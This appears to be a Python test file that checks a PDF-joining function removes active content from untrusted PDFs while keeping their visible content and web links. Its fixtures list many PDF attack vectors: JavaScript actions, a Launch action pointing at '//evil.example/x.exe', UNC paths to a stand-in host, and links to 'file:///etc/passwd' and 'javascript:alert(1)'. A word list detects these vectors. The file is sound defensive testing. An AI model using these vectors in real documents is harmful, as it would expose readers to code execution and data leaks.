"""PDFs of strangers, joined to ours: nothing in them acts, whatever way it takes; what they show stays."""

import io
from collections.abc import Callable
from typing import Any

import pikepdf
import pypdf
import pypdfium2  # type: ignore[import-untyped]  # it comes without types
import pytest
from pikepdf import Array, Dictionary, Name

from events.problem import JobFailed
from functions.report.foreign_pdf import active
from functions.report.joining import joined

SCRIPT = Dictionary(Type=Name.Action, S=Name.JavaScript, JS="app.alert(1)")
LAUNCH = Dictionary(Type=Name.Action, S=Name.Launch, F=Dictionary(Type=Name.Filespec, F="//evil.example/x.exe"))
UNC = Dictionary(Type=Name.Filespec, F="\\\\evil.example\\share\\x.pdf")
URI = Dictionary(Type=Name.Action, S=Name.URI, URI="https://shop.example/terms")
RED_SQUARE = b"1 0 0 rg 10 10 80 80 re f"


def fresh(value: pikepdf.Object) -> pikepdf.Object:
    """A copy that belongs to no file yet."""
    return pikepdf.Object.parse(value.unparse())


def annotation(kind: str, **entries: Any) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=[0, 0, 99, 99], **entries)


def link(**action: Any) -> Dictionary:
    return annotation("Link", A=Dictionary(Type=Name.Action, **action))


def with_annotation(made: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def add(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(fresh(made))])

    return add


def with_parent_field(pdf: pikepdf.Pdf) -> None:
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T="a", AA=Dictionary(K=fresh(SCRIPT))))
    widget = pdf.make_indirect(annotation("Widget", Parent=field))
    field.Kids = Array([widget])
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)


def with_external_picture(pdf: pikepdf.Pdf) -> None:
    form = pikepdf.Stream(pdf, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9])
    form.Ref = Dictionary(F=fresh(UNC), Page=0)
    picture = pikepdf.Stream(pdf, b"\0", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1)
    picture.ColorSpace, picture.BitsPerComponent, picture.F = Name.DeviceGray, 8, fresh(UNC)
    picture.OPI = Dictionary({"/2.0": Dictionary(F=fresh(UNC))})
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=pdf.make_indirect(form), F=pdf.make_indirect(picture)))


def with_external_contents(pdf: pikepdf.Pdf) -> None:
    contents = pikepdf.Stream(pdf, b"")
    contents.F = fresh(UNC)
    pdf.pages[0].obj.Contents = pdf.make_indirect(contents)


def with_page_entry(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    def add(pdf: pikepdf.Pdf) -> None:
        for name, value in entries.items():
            pdf.pages[0].obj[f"/{name}"] = fresh(value) if isinstance(value, pikepdf.Object) else value

    return add


VECTORS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "script": with_annotation(annotation("Link", A=SCRIPT)),
    "launch": with_annotation(annotation("Link", A=LAUNCH)),
    "next of a link": with_annotation(link(S=Name.URI, URI="https://a.example/", Next=SCRIPT)),
    "next of a next": with_annotation(link(S=Name.GoTo, D="x", Next=Array([Dictionary(S=Name.Named, Next=LAUNCH)]))),
    "additional action": with_annotation(annotation("Link", AA=Dictionary(E=SCRIPT))),
    "previous address": with_annotation(annotation("Link", PA=SCRIPT)),
    "go to another file": with_annotation(link(S=Name.GoToR, F=UNC, D=Array([0, Name.Fit]))),
    "go to an embedded file": with_annotation(link(S=Name.GoToE, F=UNC, T=Dictionary(R=Name.C))),
    "thread": with_annotation(link(S=Name.Thread, F=UNC, D=0)),
    "submit": with_annotation(link(S=Name.SubmitForm, F=UNC)),
    "import": with_annotation(link(S=Name.ImportData, F=UNC)),
    "rendition": with_annotation(annotation("Screen", A=Dictionary(S=Name.Rendition, JS="app.alert(1)"))),
    "movie": with_annotation(annotation("Movie", Movie=Dictionary(F=UNC), A=True)),
    "sound": with_annotation(link(S=Name.Sound, Sound=Dictionary(F=UNC))),
    "rich media": with_annotation(annotation("RichMedia", RichMediaContent=Dictionary(Assets=Dictionary()))),
    "file link": with_annotation(link(S=Name.URI, URI="file:///etc/passwd")),
    "script link": with_annotation(link(S=Name.URI, URI="javascript:alert(1)")),
    "attached file": with_annotation(annotation("FileAttachment", FS=UNC)),
    "three dimensions": with_annotation(annotation("3D", **{"3DD": Dictionary(OnInstantiate=SCRIPT)})),
    "parent field": with_parent_field,
    "page's actions": with_page_entry(AA=Dictionary(O=SCRIPT)),
    "presentation steps": with_page_entry(PresSteps=Dictionary(NA=SCRIPT)),
    "transition": with_page_entry(Trans=Dictionary(S=Name.Wipe), Dur=1),
    "associated file": with_page_entry(AF=Array([UNC])),
    "external picture": with_external_picture,
    "external contents": with_external_contents,
    "a list that is none": with_page_entry(Annots=Dictionary(A=SCRIPT)),
    "annotations that are none": with_page_entry(Annots=Array([1, "x", Array([SCRIPT])])),
}


def pdf_of(change: Callable[[pikepdf.Pdf], None] = lambda pdf: None) -> bytes:
    content = io.BytesIO()
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page(page_size=(100, 100))
        page.obj.Contents = pdf.make_stream(RED_SQUARE)
        change(pdf)
        pdf.Root.OpenAction = fresh(SCRIPT)
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", fresh(SCRIPT)])))
        pdf.save(content)
    return content.getvalue()


def own_pdf() -> bytes:
    content = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(100, 100))
        pdf.save(content)
    return content.getvalue()


def text_of(value: Any, seen: set[int]) -> str:
    """Everything that another reader finds below an object, as text."""
    value = value.get_object() if isinstance(value, pypdf.generic.IndirectObject) else value
    if id(value) in seen:
        return ""
    seen.add(id(value))
    if isinstance(value, dict):
        return " ".join(f"{key} {text_of(each, seen)}" for key, each in value.items())
    if isinstance(value, list):
        return " ".join(text_of(each, seen) for each in value)
    return str(value)


@pytest.mark.parametrize("name", VECTORS)
@pytest.mark.parametrize("side", ["before", "after"])
def test_nothing_in_a_joined_pdf_acts(name: str, side: str) -> None:
    foreign = {"#/x": pdf_of(VECTORS[name])}

    content, pages = joined(
        own_pdf(), foreign if side == "before" else {}, foreign if side == "after" else {}, pages_limit=9
    )

    said = text_of(pypdf.PdfReader(io.BytesIO(content)).trailer, set())
    assert pages == 2
    for word in ("/JavaScript", "/JS", "/Launch", "evil.example", "/AA", "/PA", "/Next", "/PresSteps", "file:", "/AF"):
        assert word not in said
    for word in ("/GoToR", "/GoToE", "/Thread", "/Rendition", "/Movie", "/RichMedia", "/Trans", "javascript:", "/3D"):
        assert word not in said


def test_what_a_joined_page_shows_stays_and_so_do_its_links_to_the_web() -> None:
    content, _ = joined(own_pdf(), {}, {"#/x": pdf_of(with_annotation(annotation("Link", A=URI)))}, pages_limit=9)

    picture = pypdfium2.PdfDocument(content)[1].render().to_pil()
    annotations: Any = pypdf.PdfReader(io.BytesIO(content)).pages[1]["/Annots"]
    assert picture.getpixel((50, 50)) == (255, 0, 0)
    assert [each.get_object()["/A"]["/URI"] for each in annotations] == ["https://shop.example/terms"]


def test_what_a_form_field_shows_becomes_part_of_the_page() -> None:
    def fill(pdf: pikepdf.Pdf) -> None:
        shown = pikepdf.Stream(
            pdf, b"0 0 1 rg 0 0 20 20 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 20, 20]
        )
        widget = annotation("Widget", FT=Name.Tx, T="a", AP=Dictionary(N=pdf.make_indirect(shown)), F=4)
        widget.Rect = Array([0, 0, 20, 20])
        pdf.pages[0].obj.Contents = pdf.make_stream(b"")
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(widget)])
        pdf.Root.AcroForm = Dictionary(Fields=pdf.pages[0].obj.Annots)

    content, _ = joined(own_pdf(), {}, {"#/x": pdf_of(fill)}, pages_limit=9)

    page = pypdf.PdfReader(io.BytesIO(content)).pages[1]
    assert pypdfium2.PdfDocument(content)[1].render().to_pil().getpixel((5, 95)) == (0, 0, 255)
    assert "/Annots" not in page


def test_what_should_ever_pass_the_list_is_refused_at_last() -> None:
    content = pdf_of(VECTORS["parent field"])
    with pikepdf.open(io.BytesIO(content)) as pdf:
        assert active(pdf)
    with pytest.raises(JobFailed, match="must not hold"):
        joined(content, {}, {}, pages_limit=9)
